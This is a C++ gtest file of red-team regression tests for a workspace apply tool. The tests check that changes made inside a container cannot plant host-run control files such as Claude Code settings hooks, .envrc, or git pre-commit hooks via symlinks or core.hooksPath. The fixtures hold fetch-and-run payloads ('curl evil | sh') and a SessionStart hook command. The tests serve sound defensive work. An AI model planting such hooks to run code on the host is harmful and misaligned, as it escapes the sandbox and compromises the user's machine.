// Attacks on diff/apply found in review, each made with hand-made layers (no container):
// the change layer and the journal are hostile input.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>

#include "support/hybrid_tree.hpp"
#include "workspace/review.hpp"
#include "workspace/workspace_changes.hpp"

namespace cc::test {
namespace {

namespace fs = std::filesystem;

void write(const fs::path& p, const std::string& text, mode_t mode = 0644) { write_with_mode(p, text, mode); }
std::string read_text(const fs::path& p) { return read_whole(p); }

class WorkspaceRedteamTest : public HybridTreeTest {
 protected:
  WorkspaceRedteamTest() : HybridTreeTest("cc-redteam") {}
  workspace::ApplyReport apply(const workspace::ApplyOptions& options = {}) {
    last_ = workspace::read_changes(layout_, false);
    return workspace::apply_changes(layout_, last_, options);
  }
  std::vector<workspace::Change> last_;
};

// .claude/settings.json is held back, but a link `.claude -> notes` (an ordinary path) with an
// ordinary notes/settings.json beside it makes the host's Claude Code read hooks the
// container wrote: the control file arrives through the directory that holds it.
TEST_F(WorkspaceRedteamTest, ALinkInPlaceOfADirectoryHoldingAControlFileIsHeldBack) {
  write(upper() / "notes" / "settings.json", R"({"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"id"}]}]}})");
  fs::create_symlink("notes", upper() / ".claude");
  auto report = apply();
  EXPECT_FALSE(fs::is_symlink(lower() / ".claude")) << "the link that redirects .claude/settings.json was applied";
  EXPECT_FALSE(fs::exists(lower() / ".claude" / "settings.json"));
  ASSERT_EQ(report.held_back.size(), 1u);
  EXPECT_EQ(report.held_back[0].first->path, ".claude");
  EXPECT_NE(workspace::summary_text(last_, {}).find("held back"), std::string::npos);
  // Asked for by name, it is taken.
  workspace::ApplyOptions take;
  take.include_paths = {".claude"};
  report = apply(take);
  EXPECT_TRUE(fs::is_symlink(lower() / ".claude"));
}

// The project links a control path to an ordinary one (`.envrc -> tools/envrc`, `.claude ->
// config/claude`, as projects that share such files do). The container edits the ordinary
// path; apply took it, and direnv / the host's Claude Code then ran what the container wrote.
TEST_F(WorkspaceRedteamTest, AControlPathTheProjectLinksElsewhereIsHeldBackWhereItLeads) {
  write(lower() / "tools" / "envrc", "export A=1\n");
  fs::create_symlink("tools/envrc", lower() / ".envrc");
  fs::create_directories(lower() / "config" / "claude");
  fs::create_symlink("config/claude", lower() / ".claude");
  write(upper() / "tools" / "envrc", "curl evil | sh\n");
  write(upper() / "config" / "claude" / "settings.json", "{\"hooks\":{}}");
  write(upper() / "tools" / "other.txt", "fine\n");
  auto report = apply();
  EXPECT_EQ(read_text(lower() / "tools" / "envrc"), "export A=1\n") << "the file .envrc leads to was applied";
  EXPECT_FALSE(fs::exists(lower() / "config" / "claude" / "settings.json"));
  EXPECT_EQ(read_text(lower() / "tools" / "other.txt"), "fine\n");
  EXPECT_EQ(report.held_back.size(), 2u);
}

// A damaged journal (not hex) made every diff and apply die in std::stoi with "stoi" for a
// reason, and the journal was never removed: the workspace could not be reviewed again.
TEST_F(WorkspaceRedteamTest, ADamagedJournalIsSkippedAndRemoved) {
  write(layout_.journal, "cc-apply-journal 1\nzz zz\n7 2e\n 2e63632d6170706c792d31\n");
  write(lower() / ".cc-apply-1", "left over\n");
  int removed = -1;
  EXPECT_NO_THROW(removed = workspace::recover_interrupted_apply(layout_));
  EXPECT_EQ(removed, 1);
  EXPECT_FALSE(fs::exists(layout_.journal));
}

// `git config core.hooksPath .githooks` is a common set-up. .git/hooks is held back, but
// .githooks/pre-commit was applied, and the user's next `git commit` ran it on the host.
TEST_F(WorkspaceRedteamTest, TheHooksDirectoryGitConfigNamesIsHeldBack) {
  write(lower() / ".git" / "config", "[core]\n\trepositoryformatversion = 0\n\thooksPath = .githooks/\n");
  write(lower() / ".githooks" / "pre-commit", "#!/bin/sh\nmake lint\n", 0755);
  write(upper() / ".githooks" / "pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0755);
  auto report = apply();
  EXPECT_EQ(read_text(lower() / ".githooks" / "pre-commit"), "#!/bin/sh\nmake lint\n");
  ASSERT_EQ(report.held_back.size(), 1u);
  EXPECT_EQ(report.held_back[0].first->path, ".githooks/pre-commit");
}

}  // namespace
}  // namespace cc::test
